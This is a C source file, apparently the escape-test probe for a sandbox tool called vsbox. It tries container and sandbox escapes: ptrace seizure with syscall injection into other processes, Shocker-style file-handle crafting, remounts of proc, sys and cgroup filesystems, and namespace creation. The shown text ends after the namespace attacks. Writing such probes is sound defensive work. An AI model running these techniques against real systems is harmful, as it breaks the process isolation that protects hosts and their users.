/*
 * The escape suite's attacker (tests/escapes.rs builds it with
 * `cc -static -O1 -o PROBE tests/escapes/probe.c`).
 *
 *   PROBE HOSTPIDNS MODE [key=value...]
 *
 * HOSTPIDNS is the inode of the host's pid namespace (the test's
 * /proc/self/ns/pid); the probe refuses to run there (exit 3), whatever the
 * mode. Modes:
 *
 *   all       every attack, each in a forked child (alarm() bounds the ones that
 *             could hang), one line per attempt, `held NAME detail` or
 *             `escaped NAME detail`, then `total N`;
 *   watch     the setup-window watcher: scan /proc for new pids, read their
 *             status and try to seize them at once; `win PID ...` lines, then
 *             `seen N seized M wins W` (stop=FILE ends it, max=SECONDS too);
 *   tiocsti   push marker= into fds 0-2 and /dev/tty for real (TIOCSTI);
 *   daemon    the same from a daemon left behind (sleep 1 s first), on every
 *             inherited descriptor, with a report of the descriptors in out=FILE;
 *   escalate  what a file-capability or setuid copy of the probe can do (exit 10:
 *             it gained something);
 *   forkbomb  fork until refused (max= children), print `forks F procs P`;
 *   nice      print the niceness;
 *   noop      exit 0 (for nested contexts);
 *   hostscan  exit 10 when marker= is seen in /proc.
 *
 * Keys of `all`: markerhex (argv[0] of a host process, hex-encoded so that no
 * command line of the context holds it), rundir (the host's
 * VSBOX_RUNDIR), vsbox (a vsbox binary to try nested contexts with), capdir
 * (probe-fcap: cap_sys_admin+ep, probe-suid: setuid root), hostfile (a host file,
 * when the filesystem is shared), hostino (its inode, for a handle made from
 * inside a guest), ipv4root (the one address the context may use), foreign
 * (a local address outside it), scratch (a writable directory), sharedfs=1 (no
 * root tree: the host filesystem is shared by design, so attacks that only show
 * it are left out).
 *
 * Every attack that succeeds is harmless by construction: sysctl and /sys writes
 * write back the value just read, the kernel interfaces that would act are called
 * with arguments that fail right after the permission check (the errno tells
 * which), TIOCSTI in `all` passes a NULL pointer (EFAULT means "would inject"),
 * mounts happen in a private mount namespace where one can be made.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <linux/bpf.h>
#include <linux/capability.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <linux/io_uring.h>
#include <linux/keyctl.h>
#include <linux/perf_event.h>
#include <linux/reboot.h>
#include <linux/tiocl.h>
#include <linux/userfaultfd.h>
#include <net/if.h>
#include <netinet/in.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/file.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/statvfs.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/time.h>
#include <sys/types.h>
#include <sys/uio.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#ifndef USERFAULTFD_IOC_NEW
#define USERFAULTFD_IOC_NEW _IO(0xAA, 0x00)
#endif
#ifndef CLONE_NEWTIME
#define CLONE_NEWTIME 0x00000080
#endif
#ifndef PTRACE_EVENT_STOP
#define PTRACE_EVENT_STOP 128
#endif
#define X32_BIT 0x40000000L
#define CAP_SYS_ADMIN_BIT (1ULL << 21)

/* ------------------------------------------------------------------------ */
/* Options, output                                                            */
/* ------------------------------------------------------------------------ */

static int g_nopts;
static char *g_keys[64], *g_vals[64];
static const char *g_hostns_arg;
static unsigned long g_hostns;
static char g_self[4096];
static char g_scratch[1024];
static int g_total, g_escaped;

static const char *opt(const char *k) {
    for (int i = 0; i < g_nopts; i++)
        if (strcmp(g_keys[i], k) == 0) return g_vals[i];
    return NULL;
}

/* The marker comes hex-encoded (markerhex=), so that the probe's own command
 * line, and its ancestors', never contain it. */
static char g_marker[256];

static const char *marker_opt(void) {
    const char *h = opt("markerhex");
    if (!h) return NULL;
    if (!g_marker[0]) {
        size_t i = 0;
        for (; h[2 * i] && h[2 * i + 1] && i < sizeof g_marker - 1; i++) {
            char b[3] = {h[2 * i], h[2 * i + 1], 0};
            g_marker[i] = (char)strtol(b, NULL, 16);
        }
        g_marker[i] = 0;
    }
    return g_marker[0] ? g_marker : NULL;
}

static void clean_line(char *s) {
    for (; *s; s++)
        if ((unsigned char)*s < 32 || *s == 127) *s = ' ';
}

static void emit(int esc, const char *name, const char *detail) {
    char d[700];
    snprintf(d, sizeof d, "%s", detail && *detail ? detail : "-");
    clean_line(d);
    printf("%s %s %s\n", esc ? "escaped" : "held", name, d);
    fflush(stdout);
    g_total++;
    if (esc) g_escaped++;
}

/* In an attack's child: verdict lines go up a pipe to the parent. */
static int g_vfd = -1;

static void verdict(const char *name, int esc, const char *fmt, ...) {
    char d[600], line[700];
    va_list ap;
    va_start(ap, fmt);
    vsnprintf(d, sizeof d, fmt, ap);
    va_end(ap);
    clean_line(d);
    int n = snprintf(line, sizeof line, "%c %s %s\n", esc ? 'E' : 'H', name, d[0] ? d : "-");
    if (n > (int)sizeof line - 1) {
        n = sizeof line - 1;
        line[n - 1] = '\n';
    }
    if (g_vfd >= 0) {
        ssize_t w = write(g_vfd, line, n);
        (void)w;
    } else {
        line[n - 1] = 0;
        emit(esc, name, line + 2 + strlen(name) + 1);
    }
}

/* Run `fn` in a child with an alarm; every name in `expect` (space separated)
 * that the child does not report is reported held, with how the child ended. */
static void group(const char *expect, int timeout, void (*fn)(void)) {
    int p[2];
    if (pipe2(p, O_CLOEXEC) < 0) {
        emit(0, expect, "probe error: pipe");
        return;
    }
    fflush(stdout);
    pid_t pid = fork();
    if (pid == 0) {
        close(p[0]);
        g_vfd = p[1];
        alarm(timeout);
        fn();
        _exit(0);
    }
    close(p[1]);
    static char buf[1 << 16];
    size_t len = 0;
    for (;;) {
        ssize_t n = read(p[0], buf + len, sizeof buf - 1 - len);
        if (n < 0 && errno == EINTR) continue;
        if (n <= 0) break;
        len += n;
        if (len >= sizeof buf - 1) break;
    }
    buf[len] = 0;
    close(p[0]);
    int st = 0;
    while (waitpid(pid, &st, 0) < 0 && errno == EINTR) {}
    char how[128];
    if (WIFSIGNALED(st))
        snprintf(how, sizeof how, "the attempt was killed by signal %d (%s)", WTERMSIG(st),
                 WTERMSIG(st) == SIGALRM ? "timeout" : strsignal(WTERMSIG(st)));
    else
        snprintf(how, sizeof how, "the attempt exited %d without a verdict", WEXITSTATUS(st));
    char seen[4096] = " ";
    for (char *line = buf; *line;) {
        char *nl = strchr(line, '\n');
        if (!nl) break;
        *nl = 0;
        if ((line[0] == 'E' || line[0] == 'H') && line[1] == ' ') {
            char *name = line + 2, *sp = strchr(name, ' ');
            if (sp) {
                *sp = 0;
                emit(line[0] == 'E', name, sp + 1);
                if (strlen(seen) + strlen(name) + 2 < sizeof seen) {
                    strcat(seen, name);
                    strcat(seen, " ");
                }
            }
        }
        line = nl + 1;
    }
    char names[1024];
    snprintf(names, sizeof names, "%s", expect);
    for (char *tok = strtok(names, " "); tok; tok = strtok(NULL, " ")) {
        char key[256];
        snprintf(key, sizeof key, " %s ", tok);
        if (!strstr(seen, key)) emit(0, tok, how);
    }
}

/* ------------------------------------------------------------------------ */
/* Small helpers                                                              */
/* ------------------------------------------------------------------------ */

static ssize_t slurp(const char *path, char *buf, size_t n) {
    int fd = open(path, O_RDONLY | O_CLOEXEC | O_NONBLOCK | O_NOCTTY);
    if (fd < 0) return -1;
    size_t len = 0;
    while (len < n - 1) {
        ssize_t r = read(fd, buf + len, n - 1 - len);
        if (r < 0 && errno == EINTR) continue;
        if (r <= 0) break;
        len += r;
    }
    int e = errno;
    close(fd);
    errno = e;
    buf[len] = 0;
    return len;
}

static const char *field(const char *text, const char *key) {
    size_t k = strlen(key);
    for (const char *l = text; l && *l; l = strchr(l, '\n') ? strchr(l, '\n') + 1 : NULL)
        if (strncmp(l, key, k) == 0 && l[k] == ':') return l + k + 1;
    return NULL;
}

static uint64_t hexfield(const char *text, const char *key) {
    const char *v = field(text, key);
    return v ? strtoull(v, NULL, 16) : 0;
}

static long numfield(const char *text, const char *key, long dflt) {
    const char *v = field(text, key);
    return v ? strtol(v, NULL, 10) : dflt;
}

struct pstate {
    int ok;
    uint64_t eff, prm, bnd, amb;
    long seccomp, filters, nnp;
    char name[64];
};

static struct pstate read_state(pid_t pid) {
    struct pstate s = {0};
    char path[64], text[8192];
    snprintf(path, sizeof path, "/proc/%d/status", pid);
    if (slurp(path, text, sizeof text) <= 0) return s;
    s.ok = 1;
    s.eff = hexfield(text, "CapEff");
    s.prm = hexfield(text, "CapPrm");
    s.bnd = hexfield(text, "CapBnd");
    s.amb = hexfield(text, "CapAmb");
    s.seccomp = numfield(text, "Seccomp", -1);
    s.filters = numfield(text, "Seccomp_filters", -1);
    s.nnp = numfield(text, "NoNewPrivs", -1);
    const char *n = field(text, "Name");
    if (n) {
        while (*n == '\t' || *n == ' ') n++;
        size_t i = 0;
        while (n[i] && n[i] != '\n' && i < sizeof s.name - 1) {
            s.name[i] = n[i];
            i++;
        }
        s.name[i] = 0;
    }
    return s;
}

static struct pstate g_me;

/* What `s` holds that the probe does not: capabilities beyond its ceiling, no
 * seccomp filter while the probe has one, no no_new_privs while the probe has
 * it. Empty string: nothing. */
static void stronger(const struct pstate *s, char *out, size_t n) {
    out[0] = 0;
    uint64_t mine = g_me.bnd | g_me.eff;
    uint64_t extra = (s->eff | s->prm | s->bnd | s->amb) & ~mine;
    size_t l = 0;
    if (extra) l += snprintf(out + l, n - l, "capabilities 0x%llx beyond the probe's 0x%llx; ", (unsigned long long)extra, (unsigned long long)mine);
    if (g_me.seccomp == 2 && s->seccomp == 0 && l < n) l += snprintf(out + l, n - l, "no seccomp filter (the probe has %ld); ", g_me.filters);
    if (g_me.nnp == 1 && s->nnp == 0 && l < n) l += snprintf(out + l, n - l, "no no_new_privs; ");
}

static unsigned long ns_ino(const char *path) {
    struct stat st;
    return stat(path, &st) == 0 ? (unsigned long)st.st_ino : 0;
}

static int is_pid_name(const char *s) {
    if (!*s) return 0;
    for (; *s; s++)
        if (*s < '0' || *s > '9') return 0;
    return 1;
}

/* Visible pids (of the /proc mounted at `proc`), at most `max`. */
static int list_pids(const char *proc, int *out, int max) {
    DIR *d = opendir(proc);
    if (!d) return 0;
    int n = 0;
    struct dirent *e;
    while ((e = readdir(d)) && n < max)
        if (is_pid_name(e->d_name)) out[n++] = atoi(e->d_name);
    closedir(d);
    return n;
}

static const char *err(void) { return strerror(errno); }

static int private_ns(void) { return syscall(SYS_unshare, CLONE_NEWNS) == 0; }

static void scratch_dir(char *out, size_t n, const char *sub) {
    snprintf(out, n, "%s/%s", g_scratch, sub);
    mkdir(out, 0700);
}

static unsigned long mount_flags(const char *path) {
    struct statvfs s;
    if (statvfs(path, &s) != 0) return 0;
    return s.f_flag & (ST_RDONLY | ST_NOSUID | ST_NODEV | ST_NOEXEC);
}

/* A result of a call that must be refused: r < 0 is held with its errno. */
static void must_fail(const char *name, long r, const char *what) {
    if (r < 0)
        verdict(name, 0, "%s: %s", what, err());
    else
        verdict(name, 1, "%s succeeded (%ld)", what, r);
}

/* For calls checked after their permission test: EPERM/EACCES/ENOSYS (and
 * EROFS) mean refused; any other errno means the call got past the check. */
static void perm_checked(const char *name, long r, const char *what) {
    if (r >= 0)
        verdict(name, 1, "%s succeeded (%ld)", what, r);
    else if (errno == EPERM || errno == EACCES || errno == ENOSYS || errno == EROFS)
        verdict(name, 0, "%s: %s", what, err());
    else
        verdict(name, 1, "%s got past the permission check (%s)", what, err());
}

/* Scan a procfs for host processes: with the marker in their command line, or in
 * the host's pid namespace. Returns how many, with a description. */
static int host_scan(const char *proc, char *desc, size_t n) {
    const char *marker = marker_opt();
    static int pids[65536];
    int np = list_pids(proc, pids, 65536), found = 0, host = 0;
    size_t l = 0;
    desc[0] = 0;
    for (int i = 0; i < np; i++) {
        char path[256], buf[4096], link[128];
        int is_marker = 0, is_host = 0;
        snprintf(path, sizeof path, "%s/%d/cmdline", proc, pids[i]);
        ssize_t len = slurp(path, buf, sizeof buf);
        if (marker && len > 0 && memmem(buf, len, marker, strlen(marker))) is_marker = 1;
        snprintf(path, sizeof path, "%s/%d/ns/pid", proc, pids[i]);
        ssize_t ll = readlink(path, link, sizeof link - 1);
        if (ll > 0) {
            link[ll] = 0;
            char want[64];
            snprintf(want, sizeof want, "pid:[%lu]", g_hostns);
            if (strcmp(link, want) == 0) is_host = 1;
        }
        if (is_marker || is_host) {
            found++;
            if (is_host) host++;
            if (l < n - 40 && found <= 8) l += snprintf(desc + l, n - l, "%s%d%s", found > 1 ? "," : "", pids[i], is_marker ? "(marker)" : "");
        }
    }
    if (found && l < n - 60) snprintf(desc + l, n - l, " [%d host processes of %d visible in %s]", found, np, proc);
    (void)host;
    return found;
}

/* ------------------------------------------------------------------------ */
/* ptrace: seize a process and make it run syscalls                           */
/* ------------------------------------------------------------------------ */

struct victim {
    pid_t pid;
    struct user_regs_struct saved;
    unsigned long site; /* address of a `syscall` instruction in the victim */
    int pending;        /* a signal that stopped it meanwhile, re-sent at detach */
};

static int wait_stop(pid_t pid, int ms, int *status) {
    for (int i = 0; i < ms; i++) {
        int st;
        pid_t r = waitpid(pid, &st, __WALL | WNOHANG);
        if (r == pid) {
            *status = st;
            return WIFSTOPPED(st) ? 0 : -2;
        }
        if (r < 0 && errno != EINTR) return -1;
        usleep(1000);
    }
    return -3;
}

/* Seize and stop `pid`; find a syscall instruction. 0 or a reason. */
static const char *seize(struct victim *v, pid_t pid) {
    static char why[160];
    memset(v, 0, sizeof *v);
    v->pid = pid;
    if (ptrace(PTRACE_SEIZE, pid, 0, (void *)(long)PTRACE_O_TRACESYSGOOD) < 0) {
        snprintf(why, sizeof why, "PTRACE_SEIZE: %s", err());
        return why;
    }
    if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) < 0) {
        snprintf(why, sizeof why, "PTRACE_INTERRUPT: %s", err());
        ptrace(PTRACE_DETACH, pid, 0, 0);
        return why;
    }
    for (int tries = 0;; tries++) {
        int st = 0, r = wait_stop(pid, 3000, &st);
        if (r != 0) {
            snprintf(why, sizeof why, "no stop after the interrupt (%d)", r);
            ptrace(PTRACE_DETACH, pid, 0, 0);
            return why;
        }
        if ((st >> 16) == PTRACE_EVENT_STOP) break;
        /* A signal-delivery stop came first: keep the signal for later. */
        v->pending = WSTOPSIG(st);
        if (tries > 5 || ptrace(PTRACE_CONT, pid, 0, 0) < 0) {
            snprintf(why, sizeof why, "no event stop");
            ptrace(PTRACE_DETACH, pid, 0, (void *)(long)v->pending);
            return why;
        }
    }
    if (ptrace(PTRACE_GETREGS, pid, 0, &v->saved) < 0) {
        snprintf(why, sizeof why, "PTRACE_GETREGS: %s", err());
        ptrace(PTRACE_DETACH, pid, 0, 0);
        return why;
    }
    errno = 0;
    long word = ptrace(PTRACE_PEEKTEXT, pid, (void *)(v->saved.rip - 2), 0);
    if (errno == 0 && (word & 0xffff) == 0x050f) {
        v->site = v->saved.rip - 2;
        return NULL;
    }
    snprintf(why, sizeof why, "stopped outside a syscall (rip %llx)", (unsigned long long)v->saved.rip);
    ptrace(PTRACE_DETACH, pid, 0, 0);
    return why;
}

/* Run syscall `nr` in the victim; its return value (or -ESRCH-ish on failure of
 * the mechanics, flagged through *ok = 0). */
static long inject(struct victim *v, int *ok, long nr, long a1, long a2, long a3, long a4, long a5, long a6) {
    struct user_regs_struct r = v->saved;
    *ok = 0;
    r.rip = v->site;
    r.rax = nr;
    r.orig_rax = -1;
    r.rdi = a1;
    r.rsi = a2;
    r.rdx = a3;
    r.r10 = a4;
    r.r8 = a5;
    r.r9 = a6;
    if (ptrace(PTRACE_SETREGS, v->pid, 0, &r) < 0) return -1;
    int stops = 0;
    for (int phase = 0; phase < 2;) {
        if (ptrace(PTRACE_SYSCALL, v->pid, 0, 0) < 0) return -1;
        int st = 0;
        if (wait_stop(v->pid, 3000, &st) != 0) return -1;
        if (WSTOPSIG(st) == (SIGTRAP | 0x80)) {
            phase++;
            continue;
        }
        if ((st >> 16) == 0) v->pending = WSTOPSIG(st);
        if (++stops > 8) return -1;
    }
    struct user_regs_struct after;
    if (ptrace(PTRACE_GETREGS, v->pid, 0, &after) < 0) return -1;
    *ok = 1;
    return (long)after.rax;
}

/* Put the victim back where it was (restarting the syscall it was in) and let
 * it go. */
static void release(struct victim *v) {
    struct user_regs_struct r = v->saved;
    long rax = (long)r.rax;
    if ((long)r.orig_rax >= 0) {
        if (rax == -512 || rax == -513 || rax == -514) { /* ERESTARTSYS, NOINTR, NOHAND */
            r.rax = r.orig_rax;
            r.rip = v->site;
        } else if (rax == -516) { /* ERESTART_RESTARTBLOCK */
            r.rax = SYS_restart_syscall;
            r.rip = v->site;
        }
        r.orig_rax = -1;
    }
    ptrace(PTRACE_SETREGS, v->pid, 0, &r);
    ptrace(PTRACE_DETACH, v->pid, 0, (void *)(long)v->pending);
}

static int poke(pid_t pid, unsigned long addr, const void *data, size_t n) {
    for (size_t i = 0; i < n; i += sizeof(long)) {
        long word = 0;
        memcpy(&word, (const char *)data + i, n - i < sizeof(long) ? n - i : sizeof(long));
        if (n - i < sizeof(long)) {
            errno = 0;
            long old = ptrace(PTRACE_PEEKDATA, pid, (void *)(addr + i), 0);
            if (errno) return -1;
            memcpy(&old, (const char *)data + i, n - i);
            word = old;
        }
        if (ptrace(PTRACE_POKEDATA, pid, (void *)(addr + i), (void *)word) < 0) return -1;
    }
    return 0;
}

static int peek(pid_t pid, unsigned long addr, void *data, size_t n) {
    for (size_t i = 0; i < n; i += sizeof(long)) {
        errno = 0;
        long word = ptrace(PTRACE_PEEKDATA, pid, (void *)(addr + i), 0);
        if (errno) return -1;
        memcpy((char *)data + i, &word, n - i < sizeof(long) ? n - i : sizeof(long));
    }
    return 0;
}

/* ------------------------------------------------------------------------ */
/* File handles (Shocker)                                                     */
/* ------------------------------------------------------------------------ */

struct handle {
    struct file_handle fh;
    unsigned char bytes[MAX_HANDLE_SZ];
};

/* A handle for the host file: made from its path when it is visible, else
 * crafted from a handle of the probe's own root with the host file's inode
 * (ext4's FILEID_INO32_GEN, generation 0 = not checked). `dir` gets a directory
 * of the same filesystem to decode it against. */
static const char *host_handle(struct handle *h, char *dir, size_t n) {
    static char why[200];
    const char *hostfile = opt("hostfile"), *hostino = opt("hostino");
    int mid;
    memset(h, 0, sizeof *h);
    h->fh.handle_bytes = MAX_HANDLE_SZ;
    if (hostfile && access(hostfile, F_OK) == 0) {
        if (name_to_handle_at(AT_FDCWD, hostfile, &h->fh, &mid, 0) < 0) {
            snprintf(why, sizeof why, "name_to_handle_at(%s): %s", hostfile, err());
            return why;
        }
        snprintf(dir, n, "%s", hostfile);
        char *slash = strrchr(dir, '/');
        if (slash && slash != dir) *slash = 0;
        else snprintf(dir, n, "/");
        return NULL;
    }
    if (!hostino) return "no host file to aim at (neither hostfile nor hostino given)";
    if (name_to_handle_at(AT_FDCWD, "/", &h->fh, &mid, 0) < 0) {
        snprintf(why, sizeof why, "name_to_handle_at(/): %s", err());
        return why;
    }
    if (h->fh.handle_type != 1 || h->fh.handle_bytes < 8) {
        snprintf(why, sizeof why, "the root's handle has type %d (%u bytes): no ext4-style handle to craft", h->fh.handle_type, h->fh.handle_bytes);
        return why;
    }
    uint32_t ino = strtoul(hostino, NULL, 10), gen = 0;
    memcpy(h->fh.f_handle, &ino, 4);
    memcpy(h->fh.f_handle + 4, &gen, 4);
    h->fh.handle_bytes = 8;
    snprintf(dir, n, "/");
    return NULL;
}

/* ------------------------------------------------------------------------ */
/* The attacks                                                                */
/* ------------------------------------------------------------------------ */

/* --- mounts --- */

static void a_mount_tmpfs(void) {
    char d[1200];
    scratch_dir(d, sizeof d, "mnt-tmpfs");
    int pns = private_ns();
    if (mount("none", d, "tmpfs", 0, "size=64k") == 0) {
        umount2(d, MNT_DETACH);
        verdict("mount_tmpfs", 1, "mounted a tmpfs on %s%s", d, pns ? " (in a private mount namespace)" : "");
    } else
        verdict("mount_tmpfs", 0, "mount tmpfs: %s", err());
}

static void a_mount_bind(void) {
    char d[1200];
    scratch_dir(d, sizeof d, "mnt-bind");
    private_ns();
    if (mount("/", d, NULL, MS_BIND, NULL) == 0) {
        umount2(d, MNT_DETACH);
        verdict("mount_bind", 1, "bind-mounted / on %s", d);
    } else
        verdict("mount_bind", 0, "mount --bind: %s", err());
}

static void fresh_fs(const char *name, const char *type, const char *data) {
    char d[1200];
    scratch_dir(d, sizeof d, name);
    private_ns();
    if (mount(type, d, type, 0, data) == 0) {
        umount2(d, MNT_DETACH);
        verdict(name, 1, "mounted a new %s%s%s", type, data ? " -o " : "", data ? data : "");
    } else
        verdict(name, 0, "mount -t %s: %s", type, err());
}

static void a_mount_proc(void) { fresh_fs("mount_proc", "proc", NULL); }
static void a_mount_sysfs(void) { fresh_fs("mount_sysfs", "sysfs", NULL); }
static void a_mount_cgroup2(void) { fresh_fs("mount_cgroup2", "cgroup2", NULL); }
static void a_mount_cgroup_pids(void) { fresh_fs("mount_cgroup_v1_pids", "cgroup", "pids"); }
static void a_mount_devpts(void) { fresh_fs("mount_devpts", "devpts", "newinstance"); }

static void remount(const char *name, const char *path, int make_rw) {
    if (access(path, F_OK) != 0) {
        verdict(name, 0, "%s: %s", path, err());
        return;
    }
    private_ns();
    unsigned long f = mount_flags(path);
    if (make_rw) f &= ~MS_RDONLY;
    if (mount(NULL, path, NULL, MS_REMOUNT | MS_BIND | f, NULL) == 0) {
        int rw = !(mount_flags(path) & ST_RDONLY);
        verdict(name, 1, "remounted %s (flags 0x%lx)%s", path, f, make_rw && rw ? ", now writable" : "");
    } else
        verdict(name, 0, "remount %s: %s", path, err());
}

static void a_remount_root(void) { remount("remount_root", "/", 0); }
static void a_remount_proc(void) { remount("remount_proc", "/proc", 0); }
static void a_remount_proc_sys(void) { remount("remount_proc_sys_rw", "/proc/sys", 1); }
static void a_remount_sys(void) { remount("remount_sys_rw", "/sys", 1); }

static void a_umount_proc(void) {
    private_ns();
    if (umount2("/proc", MNT_DETACH) == 0) {
        char desc[600];
        int n = host_scan("/proc", desc, sizeof desc);
        verdict("umount_proc", 1, "unmounted /proc; underneath: %s", n ? desc : "no host process");
    } else
        verdict("umount_proc", 0, "umount /proc: %s", err());
}

static void umount_one(const char *name, const char *path) {
    private_ns();
    if (umount2(path, MNT_DETACH) == 0)
        verdict(name, 1, "unmounted %s", path);
    else
        verdict(name, 0, "umount %s: %s", path, err());
}
static void a_umount_proc_sys(void) { umount_one("umount_proc_sys", "/proc/sys"); }
static void a_umount_cgroup_mask(void) { umount_one("umount_sys_fs_cgroup", "/sys/fs/cgroup"); }

/* --- the new mount API --- */

static void a_fsopen(void) {
    long fd = syscall(SYS_fsopen, "tmpfs", FSOPEN_CLOEXEC);
    must_fail("fsopen", fd, "fsopen(tmpfs)");
}

static void a_fsmount(void) {
    char d[1200];
    scratch_dir(d, sizeof d, "mnt-fsmount");
    private_ns();
    long fd = syscall(SYS_fsopen, "tmpfs", FSOPEN_CLOEXEC);
    if (fd < 0) {
        verdict("fsmount", 0, "no filesystem context to mount (fsopen: %s)", err());
        return;
    }
    if (syscall(SYS_fsconfig, fd, FSCONFIG_CMD_CREATE, NULL, NULL, 0) < 0) {
        verdict("fsmount", 0, "fsconfig create: %s", err());
        return;
    }
    long m = syscall(SYS_fsmount, fd, FSMOUNT_CLOEXEC, 0);
    if (m < 0) {
        verdict("fsmount", 0, "fsmount: %s", err());
        return;
    }
    long r = syscall(SYS_move_mount, m, "", AT_FDCWD, d, MOVE_MOUNT_F_EMPTY_PATH);
    if (r == 0) umount2(d, MNT_DETACH);
    verdict("fsmount", 1, "fsmount gave a mount%s", r == 0 ? ", attached with move_mount" : "");
}

static void a_open_tree(void) {
    long fd = syscall(SYS_open_tree, AT_FDCWD, "/", OPEN_TREE_CLONE | OPEN_TREE_CLOEXEC);
    must_fail("open_tree_clone", fd, "open_tree(/, OPEN_TREE_CLONE)");
}

static void a_move_mount(void) {
    char d[1200];
    scratch_dir(d, sizeof d, "mnt-move");
    private_ns();
    long r = syscall(SYS_move_mount, AT_FDCWD, "/proc", AT_FDCWD, d, 0);
    must_fail("move_mount", r, "move_mount(/proc)");
}

static void a_mount_setattr(void) {
    private_ns();
    struct mount_attr a = {0};
    a.attr_clr = MOUNT_ATTR_RDONLY;
    long r = syscall(SYS_mount_setattr, AT_FDCWD, "/proc/sys", 0, &a, sizeof a);
    must_fail("mount_setattr", r, "mount_setattr(/proc/sys, clear RDONLY)");
}

static void a_fspick(void) {
    long fd = syscall(SYS_fspick, AT_FDCWD, "/proc", FSPICK_CLOEXEC);
    must_fail("fspick", fd, "fspick(/proc)");
}

/* --- cgroups --- */

struct mnt {
    char point[512], type[64];
};

static int mounts_of(const char *type_prefix, struct mnt *out, int max) {
    static char text[1 << 18];
    if (slurp("/proc/self/mountinfo", text, sizeof text) <= 0) return 0;
    int n = 0;
    for (char *l = strtok(text, "\n"); l && n < max; l = strtok(NULL, "\n")) {
        char point[512], type[64];
        char *dash = strstr(l, " - ");
        if (!dash || sscanf(dash + 3, "%63s", type) != 1) continue;
        if (sscanf(l, "%*s %*s %*s %*s %511s", point) != 1) continue;
        if (strncmp(type, type_prefix, strlen(type_prefix)) != 0) continue;
        snprintf(out[n].point, sizeof out[n].point, "%s", point);
        snprintf(out[n].type, sizeof out[n].type, "%s", type);
        n++;
    }
    return n;
}

static int dir_entries(const char *path, char *names, size_t n) {
    DIR *d = opendir(path);
    if (!d) return -1;
    int count = 0;
    size_t l = strlen(names);
    struct dirent *e;
    while ((e = readdir(d))) {
        if (!strcmp(e->d_name, ".") || !strcmp(e->d_name, "..")) continue;
        count++;
        if (count <= 4 && l < n - 80) l += snprintf(names + l, n - l, "%s ", e->d_name);
    }
    closedir(d);
    return count;
}

static void a_cgroupfs_visible(void) {
    char names[600] = "";
    int n = dir_entries("/sys/fs/cgroup", names, sizeof names);
    struct mnt m[64];
    int nm = mounts_of("cgroup", m, 64), shown = 0;
    for (int i = 0; i < nm; i++) {
        char tmp[300] = "";
        if (dir_entries(m[i].point, tmp, sizeof tmp) > 0) {
            shown++;
            size_t l = strlen(names);
            if (l < sizeof names - 100) snprintf(names + l, sizeof names - l, "[%s %s] ", m[i].type, m[i].point);
        }
    }
    if (n > 0 || shown > 0)
        verdict("cgroupfs_visible", 1, "%d entries in /sys/fs/cgroup, %d cgroup mounts with content: %s", n < 0 ? 0 : n, shown, names);
    else
        verdict("cgroupfs_visible", 0, "/sys/fs/cgroup %s, no cgroup mount with content", n < 0 ? "absent" : "empty");
}

static void find_procs_files(const char *dir, int depth, int *opened, int *tried, char *first, size_t n) {
    if (depth > 4 || *tried > 2000) return;
    DIR *d = opendir(dir);
    if (!d) return;
    struct dirent *e;
    while ((e = readdir(d))) {
        if (e->d_name[0] == '.') continue;
        char p[1024];
        snprintf(p, sizeof p, "%s/%s", dir, e->d_name);
        if (!strcmp(e->d_name, "cgroup.procs") || !strcmp(e->d_name, "tasks") || !strcmp(e->d_name, "cgroup.threads")) {
            (*tried)++;
            int fd = open(p, O_WRONLY | O_CLOEXEC | O_NONBLOCK);
            if (fd >= 0) {
                (*opened)++;
                if (!first[0]) snprintf(first, n, "%s", p);
                close(fd);
            }
        } else if (e->d_type == DT_DIR) {
            find_procs_files(p, depth + 1, opened, tried, first, n);
        }
    }
    closedir(d);
}

static void a_cgroup_procs(void) {
    int opened = 0, tried = 0;
    char first[1024] = "";
    find_procs_files("/sys/fs/cgroup", 0, &opened, &tried, first, sizeof first);
    struct mnt m[64];
    int nm = mounts_of("cgroup", m, 64);
    for (int i = 0; i < nm; i++) find_procs_files(m[i].point, 0, &opened, &tried, first, sizeof first);
    if (opened)
        verdict("cgroup_procs_writable", 1, "%d of %d cgroup.procs/tasks files open for writing (first %s); a write would move the process", opened, tried, first);
    else
        verdict("cgroup_procs_writable", 0, "%d cgroup.procs/tasks files found, none opens for writing", tried);
}

/* --- namespaces --- */

static void a_unshare_userns(void) { must_fail("unshare_userns", syscall(SYS_unshare, CLONE_NEWUSER), "unshare(CLONE_NEWUSER)"); }

static void a_clone_userns(void) {
    long r = syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0);
    if (r == 0) _exit(0);
    if (r > 0) waitpid(r, NULL, 0);
    must_fail("clone_userns", r, "clone(CLONE_NEWUSER)");
}

struct clone_args_v0 {
    uint64_t flags, pidfd, child_tid, parent_tid, exit_signal, stack, stack_size, tls;
};

static void a_clone3_userns(void) {
    struct clone_args_v0 ca = {0};
    ca.flags = CLONE_NEWUSER;
    ca.exit_signal = SIGCHLD;
    long r = syscall(SYS_clone3, &ca, sizeof ca);
    if (r == 0) _exit(0);
    if (r > 0) waitpid(r, NULL, 0);
    must_fail("clone3_userns", r, "clone3(CLONE_NEWUSER)");
}

static void a_clone3_newns(void) {
    struct clone_args_v0 ca = {0};
    ca.flags = CLONE_NEWNS | CLONE_NEWPID;
    ca.exit_signal = SIGCHLD;
    long r = syscall(SYS_clone3, &ca, sizeof ca);
    if (r == 0) _exit(0);
    if (r > 0) waitpid(r, NULL, 0);
    must_fail("clone3_newns_newpid", r, "clone3(CLONE_NEWNS|CLONE_NEWPID)");
}

#define UNSHARE(fn, name, flag) \
    static void fn(void) { must_fail(name, syscall(SYS_unshare, flag), "unshare(" #flag ")"); }
UNSHARE(a_unshare_ns, "unshare_mnt", CLONE_NEWNS)
UNSHARE(a_unshare_uts, "unshare_uts", CLONE_NEWUTS)
UNSHARE(a_unshare_ipc, "unshare_ipc", CLONE_NEWIPC)
UNSHARE(a_unshare_net, "unshare_net", CLONE_NEWNET)
UNSHARE(a_unshare_pid, "unshare_pid", CLONE_NEWPID)
